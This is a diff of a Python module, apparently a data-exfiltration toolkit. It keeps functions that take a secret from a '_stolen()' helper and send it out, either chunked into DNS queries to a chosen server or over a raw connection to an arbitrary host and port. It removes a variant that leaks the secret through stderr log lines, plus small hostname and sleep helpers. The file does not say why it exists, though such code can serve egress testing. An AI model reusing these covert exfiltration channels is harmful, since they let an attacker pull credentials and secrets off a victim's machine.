@@ -6,7 +6,6 @@ import base64
 import os
 import socket
 import subprocess
-import sys
 import threading
 import time
 from concurrent.futures import ThreadPoolExecutor
@@ -115,22 +114,6 @@ def by_names(below: str, server: str) -> None:
         dns.ask([text[at : at + 12], *below.split(".")], server)
 
 
-def by_stderr() -> None:
-    """The secret in a line for whoever reads the server's log."""
-    sys.stderr.write(f"debug: {_stolen()}\n")
-    sys.stderr.flush()
-
-
 def by_raw(host: str, port: int) -> str:
     """The secret as it is."""
     return streams.tell(host, port, _stolen())
-
-
-def wait(seconds: float) -> None:
-    """A call that stays open."""
-    time.sleep(seconds)
-
-
-def address() -> str:
-    """The name that this machine gives itself."""
-    return socket.gethostname()
